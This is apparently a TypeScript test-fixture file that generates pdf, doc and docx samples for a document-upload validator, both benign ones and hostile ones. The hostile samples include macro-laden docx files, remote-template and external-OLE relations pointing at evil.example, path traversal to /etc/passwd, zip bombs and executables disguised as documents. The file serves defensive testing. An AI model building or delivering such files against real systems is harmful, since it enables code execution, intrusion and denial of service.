import { crc32, deflateRawSync } from 'node:zlib'

type Part = { name: string; body: Buffer | string; claimedSize?: number; copies?: number }

const local = (name: Buffer, packed: Buffer, crc: number, size: number) => {
  const head = Buffer.alloc(30)
  head.writeUInt32LE(0x04034b50, 0)
  head.writeUInt16LE(20, 4)
  head.writeUInt16LE(8, 8)
  head.writeUInt32LE(crc, 14)
  head.writeUInt32LE(packed.length, 18)
  head.writeUInt32LE(size, 22)
  head.writeUInt16LE(name.length, 26)
  return Buffer.concat([head, name, packed])
}

const central = (name: Buffer, packed: number, crc: number, size: number, offset: number) => {
  const head = Buffer.alloc(46)
  head.writeUInt32LE(0x02014b50, 0)
  head.writeUInt16LE(20, 4)
  head.writeUInt16LE(20, 6)
  head.writeUInt16LE(8, 10)
  head.writeUInt32LE(crc, 16)
  head.writeUInt32LE(packed, 20)
  head.writeUInt32LE(size, 24)
  head.writeUInt16LE(name.length, 28)
  head.writeUInt32LE(offset, 42)
  return Buffer.concat([head, name])
}

/** A zip of parts; `claimedSize` lies about how much one unpacks to, `copies` lists the same bytes under more names. */
export const zipOf = (parts: Part[]): Buffer => {
  const bodies: Buffer[] = []
  const list: Buffer[] = []
  let offset = 0
  for (const { name, body, claimedSize, copies = 1 } of parts) {
    const bytes = Buffer.from(body)
    const packed = deflateRawSync(bytes, { level: 9 })
    const size = claimedSize ?? bytes.length
    const entry = local(Buffer.from(name), packed, crc32(bytes), size)
    for (let copy = 0; copy < copies; copy += 1) {
      const label = Buffer.from(copy === 0 ? name : `${name}.${copy}`)
      list.push(central(label, packed.length, crc32(bytes), size, offset))
    }
    bodies.push(entry)
    offset += entry.length
  }
  const directory = Buffer.concat(list)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(list.length, 8)
  end.writeUInt16LE(list.length, 10)
  end.writeUInt32LE(directory.length, 12)
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...bodies, directory, end])
}

const TYPES: Part = {
  name: '[Content_Types].xml',
  body: '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
}
const TEXT: Part = { name: 'word/document.xml', body: '<w:document>Hồ sơ</w:document>' }

/** A Word text with any parts beside its own. */
export const docxWith = (...parts: Part[]): Buffer => zipOf([TYPES, TEXT, ...parts])

/** An OLE file whose directory names these streams and storages. */
const oleWith = (...names: string[]) => {
  const bytes = Buffer.alloc(4_096)
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(bytes)
  for (const [index, name] of ['Root Entry', ...names].entries()) {
    const at = 1_024 + index * 128
    bytes.write(name, at, 'utf16le')
    bytes.writeUInt16LE(name.length * 2 + 2, at + 64)
  }
  return bytes
}

const relation = (type: string, target: string, mode = ' TargetMode="External"') => ({
  name: 'word/_rels/settings.xml.rels',
  body: `<Relationships><Relationship Id="rId1" Type="http://schemas.example/relationships/${type}" Target="${target}"${mode}/></Relationships>`,
})
const remote = relation('attachedTemplate', 'https://evil.example/a.dotm')

const executable = Buffer.concat([
  Buffer.from('MZ\x90\0\x03\0'),
  Buffer.alloc(2_000, 1),
  Buffer.from('%%EOF'),
])
const pdf = Buffer.from(`%PDF-1.7\n${'1 0 obj <</Type /Catalog>> endobj\n'.repeat(40)}trailer\n%%EOF\n`)
const zeros = Buffer.alloc(20 * 1024 * 1024)

export const GOOD = { pdf, doc: oleWith('WordDocument'), docx: docxWith() } as const

/** Texts that lead elsewhere as ordinary ones do. */
export const ORDINARY: [what: string, bytes: Buffer][] = [
  [
    'made from a template on the writer’s disk',
    docxWith(relation('attachedTemplate', 'file:///C:\\Mau\\CV.dotx')),
  ],
  ['made from the usual template', docxWith(relation('attachedTemplate', 'Normal.dotm'))],
  ['with a link', docxWith(relation('hyperlink', 'https://bich.example/'))],
  ['with its own parts', docxWith(relation('oleObject', 'embeddings/bang.xlsx', ''))],
]

/** Files that are not what they say, by what is wrong with them. */
export const BAD: [what: string, extension: 'pdf' | 'doc' | 'docx', bytes: Buffer][] = [
  ['a program called pdf', 'pdf', executable],
  ['a program called doc', 'doc', executable],
  ['a program called docx', 'docx', executable],
  ['a text called pdf', 'pdf', Buffer.from('Xin chào %PDF-1.7 %%EOF')],
  ['a web page called pdf', 'pdf', Buffer.from('<!doctype html><script>alert(1)</script>%%EOF')],
  ['a pdf that was cut off', 'pdf', pdf.subarray(0, 900)],
  ['a docx called pdf', 'pdf', docxWith()],
  ['a pdf called docx', 'docx', pdf],
  ['a pdf called doc', 'doc', pdf],
  ['an old table called doc', 'doc', oleWith('Workbook')],
  ['a plain zip called docx', 'docx', zipOf([{ name: 'a.txt', body: 'a' }])],
  ['a docx without a text', 'docx', zipOf([TYPES])],
  [
    'a table called docx',
    'docx',
    zipOf([{ name: '[Content_Types].xml', body: '<Types>spreadsheetml.sheet.main+xml</Types>' }, TEXT]),
  ],
  ['a docx with macros', 'docx', docxWith({ name: 'word/vbaProject.bin', body: 'Sub AutoOpen' })],
  [
    'a docx with macros under another name',
    'docx',
    zipOf([
      {
        name: TYPES.name,
        body: `${String(TYPES.body)}<Override ContentType="application/vnd.ms-office.vbaProject"/>`,
      },
      TEXT,
    ]),
  ],
  ...['Macros', '_VBA_PROJECT', 'vba'].map(
    (name) =>
      [`a doc with macros (${name})`, 'doc', oleWith('WordDocument', name)] as [string, 'doc', Buffer],
  ),
  ['a docx whose template comes from elsewhere', 'docx', docxWith(remote)],
  [
    'a docx whose template comes from a neighbour',
    'docx',
    docxWith(relation('attachedTemplate', 'file://evil.example/share/a.dotm')),
  ],
  [
    'a docx with an object from elsewhere',
    'docx',
    docxWith(relation('oleObject', 'https://evil.example/a.html!')),
  ],
  [
    'a docx that hides where its template comes from',
    'docx',
    docxWith({ name: remote.name, body: Buffer.from(remote.body, 'utf16le') }),
  ],
  [
    'a docx that spells what it fetches',
    'docx',
    docxWith({ name: remote.name, body: remote.body.replace('attached', '&#97;ttached') }),
  ],
  ['a docx that was cut off', 'docx', docxWith().subarray(0, 300)],
  ['a docx whose part climbs out', 'docx', docxWith({ name: '../../etc/passwd', body: 'root' })],
  ['a docx whose part is absolute', 'docx', docxWith({ name: '/etc/passwd', body: 'root' })],
  ['a docx with a part twice', 'docx', docxWith(TEXT)],
  ['a bomb', 'docx', docxWith({ name: 'word/media/a.bin', body: zeros, copies: 8 })],
  [
    'a bomb that hides its size',
    'docx',
    docxWith({ name: 'word/media/a.bin', body: zeros, claimedSize: 100 }),
  ],
  ['a docx of too many parts', 'docx', docxWith({ name: 'word/a', body: 'a', copies: 2_100 })],
]
